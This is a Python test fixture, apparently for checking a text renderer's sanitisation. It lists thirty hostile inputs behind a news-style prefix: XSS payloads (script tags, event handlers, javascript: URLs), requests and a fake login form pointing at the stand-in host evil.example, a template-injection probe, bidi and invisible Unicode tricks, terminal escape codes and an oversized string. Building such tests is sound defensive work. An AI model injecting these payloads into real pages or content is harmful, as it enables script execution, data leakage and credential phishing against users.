"""Thirty texts that would run, fetch, redirect, hide or overflow something, were they ever taken for markup.

The longest is as long as a source may be; a longer one is refused where scenarios are read.
"""

from __future__ import annotations

HOSTILE: tuple[str, ...] = (
    "Oil rose. <script>window.violated.push('script')</script> The strait is closed.",
    "Oil rose. <img src=x onerror=\"window.violated.push('img')\"> The strait is closed.",
    "Oil rose. <svg onload=\"window.violated.push('svg')\"><circle r=1></svg> The strait is closed.",
    "Oil rose. <svg><script>window.violated.push('svg script')</script></svg>",
    "Oil rose. <style>body{background:url(https://evil.example/leak)}</style>",
    "Oil rose. <div style=\"background-image:url('https://evil.example/leak')\">x</div>",
    'Oil rose. <meta http-equiv="refresh" content="0;url=https://evil.example/">',
    'Oil rose. <base href="https://evil.example/">',
    "Oil rose. <iframe src=\"javascript:window.top.violated.push('frame')\"></iframe>",
    "Oil rose. <a href=\"javascript:window.violated.push('a')\">details</a>",
    'Oil rose. <form action="https://evil.example/"><input name=phrase><button>Sign in</button></form>',
    'Oil rose. <object data="data:text/html,<script>alert(1)</script>"></object>',
    "Oil rose. <embed src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>\">",
    'Oil rose. <link rel="stylesheet" href="https://evil.example/x.css">',
    "Oil rose. <math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "Oil rose. <template><script>alert(1)</script></template>",
    "Oil rose. </div></section></main></body></html><script>alert(1)</script>",
    'Oil rose. "><script>alert(1)</script>',
    "Oil rose. '><img src=x onerror=alert(1)>",
    "Oil rose. {{ 7 * 7 }} {% for x in ().__class__.__bases__ %}{{ x }}{% endfor %}",
    "Oil rose. &lt;script&gt;alert(1)&lt;/script&gt; &#60;script&#62;alert(1)&#60;/script&#62;",
    "Oil rose. ]]><!--<script>alert(1)</script>--><![CDATA[",
    "Oil fell \u202edesor lio\u202c \u2066isolated\u2069 \u200f\u200e and the strait is closed.",
    "Oil rose.\u200b\u200c\u200d\ufeff\u2060 zero width \u00ad soft hyphens.",
    "Oil rose. \x1b[31mred\x1b[0m \x07 \x08\x08\x08 \x7f control characters \x9b1m.",
    "Oil rose. Combining " + "Z\u0351\u036b\u0343\u036a\u0302" * 40 + " marks.",
    "Oil rose. " + "A" * 19_900,
    "Oil rose. <details open ontoggle=alert(1)><summary>x</summary></details><video src=x onerror=alert(1)>",
    "Oil rose. <input autofocus onfocus=alert(1)><select onfocus=alert(1) autofocus><textarea onfocus=alert(1)>",
    "Oil rose. [E1] [E2](javascript:alert(1)) ![x](https://evil.example/x.png) <https://evil.example> "
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
)
